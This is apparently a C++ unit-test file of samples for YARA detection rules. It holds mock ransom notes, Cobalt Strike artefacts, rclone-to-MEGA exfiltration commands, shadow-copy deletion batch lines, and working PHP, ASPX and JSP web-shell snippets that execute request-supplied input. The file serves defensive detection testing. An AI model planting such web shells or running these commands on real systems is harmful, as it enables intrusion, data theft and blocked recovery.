#include "tests/unit/analyzer/yara/samples.h"

#include <span>

#include "common/hash.h"
#include "tests/unit/analyzer/yara/test_util.h"

namespace beffroi::yara::testing {

namespace {

// A syntactically valid v3 onion name (56 base32 characters); it points nowhere.
std::string FakeOnion() {
  std::string name;
  const std::string alphabet = "abcdefghijklmnopqrstuvwxyz234567";
  while (name.size() < 56)
    name += alphabet;
  return name.substr(0, 56) + ".onion";
}

std::string LowEntropyText(std::size_t n) {
  std::string line = "Budget 2021, ligne 42: entretien des voiries communales.\n";
  std::string out;
  while (out.size() < n)
    out += line;
  return out.substr(0, n);
}

RuleSamples EncryptedFile(const std::string& rule, const std::string& extension,
                          std::uint32_t seed) {
  return {rule,
          {"/srv/shares/finances/comptes-2021.xlsx" + extension, PseudoRandomBytes(4096, seed)},
          {"/srv/shares/finances/comptes-2021.xlsx" + extension, LowEntropyText(4096)}};
}

std::vector<RuleSamples> RansomNotes() {
  const std::string onion = FakeOnion();
  std::vector<RuleSamples> out;
  out.push_back({"RANSOM_Ryuk_Note",
                 {"/srv/shares/etat-civil/RyukReadMe.txt",
                  "Test note written for Beffroi.\nYour network has been\npenetrated. All files "
                  "on each host are encrypted.\nWrite to nobody@protonmail.invalid for a "
                  "decryption tool.\nNo system is safe\nRyuk\n"},
                 {"/srv/press/2021-06-22-liege.txt",
                  "Press cutting: Ryuk is suspected in Liege. Victims of such attacks are told "
                  "to write to a protonmail address to decrypt their files.\n"}});
  out.push_back({"RANSOM_Play_Note",
                 {"/srv/shares/ReadMe.txt",
                  "PLAY\nnews portal, tor network links:\n" + onion + "\n\nmail: nobody@gmx.com\n"},
                 {"/srv/shares/ReadMe.txt", "PLAY\nnews portal\nmail: nobody@gmx.com\n"}});
  out.push_back({"RANSOM_Royal_Note",
                 {"/srv/shares/README.TXT",
                  "Test note written for Beffroi. If you read this, your system was hit by Royal "
                  "ransomware.\nOpen the Tor browser at http://" +
                      onion + "/ to talk about how we decrypt your data.\n"},
                 {"/srv/press/lille.txt",
                  "Press cutting: Lille says its system was hit by Royal ransomware; the city "
                  "will not use the Tor browser to talk to the gang or pay to decrypt.\n"}});
  out.push_back({"RANSOM_LockBit_Note",
                 {"/srv/shares/Restore-My-Files.txt",
                  "LockBit test note written for Beffroi.\nAll your files are encrypted.\nOnly "
                  "our private key restores them: use the Tor Browser and open " +
                      onion + "\n"},
                 {"/srv/press/lockbit.txt",
                  "Press cutting: LockBit affiliates say files are encrypted and that only their "
                  "private key helps; police advise not to pay.\n"}});
  const std::string samsam =
      "<html><body>Test note written for Beffroi.<h1>What happened to your files?</h1>All "
      "your files were encrypted with RSA-2048.<h1>How to recover</h1>Pay in bitcoin.</body>"
      "</html>\n";
  out.push_back({"RANSOM_SamSam_Note",
                 {"/srv/shares/HELP_DECRYPT_YOUR_FILES.html", samsam},
                 {"/srv/intranet/crypto-training.html", samsam}});
  const std::string robbinhood =
      "<html><body>Test note written for Beffroi. Your files were encrypted with RSA 4096. "
      "Pay in bitcoin; the price will increase every day.</body></html>\n";
  out.push_back({"RANSOM_RobbinHood_Note",
                 {"/srv/shares/_Decrypt_Files.html", robbinhood},
                 {"/srv/intranet/index.html", robbinhood}});
  return out;
}

std::vector<RuleSamples> Ransomware() {
  std::vector<RuleSamples> out = RansomNotes();
  out.push_back(EncryptedFile("RANSOM_Ryuk_Encrypted_File", ".RYK", 1));
  out.push_back(EncryptedFile("RANSOM_Play_Encrypted_File", ".PLAY", 2));
  out.push_back(EncryptedFile("RANSOM_Royal_Encrypted_File", ".royal", 3));
  out.push_back(EncryptedFile("RANSOM_LockBit_Encrypted_File", ".lockbit", 4));
  out.push_back(EncryptedFile("RANSOM_SamSam_Encrypted_File", ".encryptedRSA", 5));
  out.push_back(EncryptedFile("RANSOM_RobbinHood_Encrypted_File", ".enc_robbinhood", 6));
  out.push_back({"RANSOM_Recovery_Inhibition_Commands",
                 {"/srv/it/scripts/cleanup.bat",
                  "@echo off\r\nrem test script written for Beffroi, never run\r\n"
                  "vssadmin.exe Delete Shadows /All /Quiet\r\n"
                  "bcdedit /set {default} recoveryenabled No\r\n"},
                 {"/srv/it/scripts/backup.bat",
                  "@echo off\r\nvssadmin list shadows\r\nwbadmin start backup -backupTarget:E:\r\n"
                  "rem weekly tidy-up of old restore points\r\n"
                  "vssadmin delete shadows /for=C: /oldest\r\n"}});
  return out;
}

std::vector<RuleSamples> Tooling() {
  std::vector<RuleSamples> out;
  out.push_back({"HKTL_CobaltStrike_Default_Pipe_Names",
                 {"/srv/it/logs/sysmon-pipes.txt",
                  "EventID: 17\nImage: C:\\Windows\\System32\\rundll32.exe\n"
                  "PipeName: \\MSSE-4821-server\n"},
                 {"/srv/it/logs/sysmon-pipes.txt",
                  "EventID: 17\nImage: C:\\Program Files\\App\\app.exe\n"
                  "PipeName: \\postex_1a2b\nPipeName: \\mojo.5688.8052.1234\n"}});
  out.push_back({"HKTL_CobaltStrike_Default_Beacon_Uris",
                 {"/srv/it/triage/beacon-config.txt",
                  "BeaconType: HTTP\nPort: 80\nSleepTime: 60000\n"
                  "C2Server: 192.0.2.10,/ca,/dpixel,/__utm.gif,/pixel.gif,/g.pixel,/dot.gif,"
                  "/updates.rss\nHttpPostUri: /submit.php\n"},
                 {"/srv/www/portal/index.html",
                  "<script src=\"/ga.js\"></script><img src=\"/pixel.gif\"><img src=\"/dot.gif\">"
                  "<a href=\"https://go.microsoft.com/fwlink/?linkid=1\">help</a>"
                  "<a href=\"/activity\">news</a><img src=\"/dpixel\">\n"}});
  out.push_back({"HKTL_CobaltStrike_Default_Certificate",
                 {"/srv/it/triage/teamserver.der",
                  FakeDerCertificate({"Earth", "Cyberspace", "Somewhere", "cobaltstrike",
                                      "AdvancedPenTesting", "Major Cobalt Strike"})},
                 {"/srv/it/certs/intranet.der",
                  FakeDerCertificate({"BE", "Liege", "Ville de Liege", "Service informatique",
                                      "intranet.ville.example", "Cobalt Strike training"})}});
  out.push_back({"EXFIL_Rclone_Mega_Config",
                 {"/home/ops/.config/rclone/rclone.conf",
                  "[mega]\ntype = mega\nuser = nobody@example.org\npass = dGVzdC1vbmx5\n"},
                 {"/home/ops/.config/rclone/rclone.conf",
                  "[archive]\ntype = s3\nprovider = Other\nuser = archiver\npass = dGVzdC1vbmx5\n"
                  "endpoint = https://s3.ville.example\n"}});
  out.push_back({"EXFIL_Rclone_Mega_Command",
                 {"/srv/it/scripts/sync.cmd",
                  "rclone.exe copy \"D:\\Shares\\Finances\" mega:backup --transfers 16 "
                  "--ignore-existing\r\n"},
                 {"/srv/it/scripts/sync.cmd",
                  "rclone copy D:\\Shares s3archive:city-archive --transfers 4\r\n"}});
  return out;
}

std::vector<RuleSamples> WebShellsAndTest() {
  std::vector<RuleSamples> out;
  out.push_back({"WEBSHELL_PHP_Eval_Request",
                 {"/var/www/html/wp-content/uploads/img.php", "<?php @eval($_POST['x']); ?>\n"},
                 {"/var/www/html/contact.php",
                  "<?php\n$name = htmlspecialchars($_POST['name']);\n$sum = eval('return 1+1;');\n"
                  "echo \"Merci $name\";\n"}});
  out.push_back({"WEBSHELL_ASPX_Cmd_Exec",
                 {"C:/inetpub/wwwroot/aspnet_client/help.aspx",
                  "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Diagnostics\" %>\n"
                  "<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n"
                  "  var psi = new ProcessStartInfo(\"cmd.exe\", \"/c \" + Request[\"c\"]);\n"
                  "  psi.UseShellExecute = false; psi.RedirectStandardOutput = true;\n"
                  "  Response.Write(Process.Start(psi).StandardOutput.ReadToEnd());\n}\n"
                  "</script>\n"},
                 {"C:/inetpub/wwwroot/tools/ping.aspx",
                  "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n"
                  "void Page_Load(object s, EventArgs e) {\n"
                  "  var psi = new ProcessStartInfo(\"ping.exe\", \"-n 1 intranet\");\n"
                  "  Response.Write(Request[\"host\"]);\n}\n</script>\n"}});
  out.push_back({"WEBSHELL_JSP_Cmd_Exec",
                 {"/opt/tomcat/webapps/ROOT/status.jsp",
                  "<%@ page import=\"java.io.*\" %>\n<%\n"
                  "Process p = Runtime.getRuntime().exec(request.getParameter(\"cmd\"));\n"
                  "InputStream in = p.getInputStream();\n%>\n"},
                 {"/opt/tomcat/webapps/ROOT/uptime.jsp",
                  "<%@ page import=\"java.io.*\" %>\n<%\n"
                  "Runtime.getRuntime().exec(\"/usr/bin/uptime\");\n"
                  "String who = request.getParameter(\"name\");\n%>\n"}});
  out.push_back({"TEST_EICAR_Test_File",
                 {"/home/agent/eicar.com", EicarString()},
                 {"/home/agent/eicar-quoted.txt", "quoted: " + EicarString()}});
  return out;
}

}  // namespace

std::vector<RuleSamples> OurRuleSamples() {
  std::vector<RuleSamples> all = Ransomware();
  for (auto* part : {&Tooling, &WebShellsAndTest}) {
    for (RuleSamples& s : (*part)())
      all.push_back(std::move(s));
  }
  return all;
}

Externals ExternalsFor(const Sample& sample) {
  Externals ex = ExternalsForPath(sample.path, Bytes(sample.content));
  if (!sample.md5.empty()) {
    ex.md5 = sample.md5;
  } else {
    MultiHasher hasher(kMd5);
    hasher.Update(std::string_view(sample.content));
    ex.md5 = hasher.Finish().md5;
  }
  ex.owner = sample.owner;
  return ex;
}

std::string EicarString() {
  // Assembled at run time so that no file of the repository holds the test string.
  std::string s = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$";
  s += "EICAR-STANDARD-";
  s += "ANTIVIRUS-TEST-";
  s += "FILE!$H+H*";
  return s;
}

std::string FakeDerCertificate(const std::vector<std::string>& subject_values) {
  // SEQUENCE { SET { SEQUENCE { OID 2.5.4.x, PrintableString value } } ... } wrapped in an
  // outer SEQUENCE with a two-byte length, like a real certificate's first bytes (30 82 ...).
  std::string body;
  for (const std::string& v : subject_values) {
    std::string atv =
        std::string("\x06\x03\x55\x04\x03", 5) + '\x13' + static_cast<char>(v.size()) + v;
    std::string seq = std::string(1, '\x30') + static_cast<char>(atv.size()) + atv;
    body += std::string(1, '\x31') + static_cast<char>(seq.size()) + seq;
  }
  body = std::string(1, '\x30') + static_cast<char>(body.size()) + body;
  body += PseudoRandomBytes(256, 99);  // stands in for the key and the signature
  std::string der = "\x30\x82";
  der += static_cast<char>((body.size() >> 8) & 0xff);
  der += static_cast<char>(body.size() & 0xff);
  return der + body;
}

std::string PemWrap(const std::string& der) {
  static const char kAlphabet[] =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string b64;
  std::size_t i = 0;
  auto byte = [&](std::size_t k) {
    return static_cast<unsigned>(static_cast<unsigned char>(der[k]));
  };
  for (; i + 2 < der.size(); i += 3) {
    unsigned v = (byte(i) << 16) | (byte(i + 1) << 8) | byte(i + 2);
    for (int shift : {18, 12, 6, 0})
      b64 += kAlphabet[(v >> shift) & 63];
  }
  if (i + 1 == der.size()) {
    unsigned v = byte(i) << 16;
    b64 += kAlphabet[(v >> 18) & 63];
    b64 += kAlphabet[(v >> 12) & 63];
    b64 += "==";
  } else if (i + 2 == der.size()) {
    unsigned v = (byte(i) << 16) | (byte(i + 1) << 8);
    for (int shift : {18, 12, 6})
      b64 += kAlphabet[(v >> shift) & 63];
    b64 += '=';
  }
  std::string pem = "-----BEGIN CERTIFICATE-----\n";
  for (std::size_t k = 0; k < b64.size(); k += 64)
    pem += b64.substr(k, 64) + "\n";
  return pem + "-----END CERTIFICATE-----\n";
}

}  // namespace beffroi::yara::testing
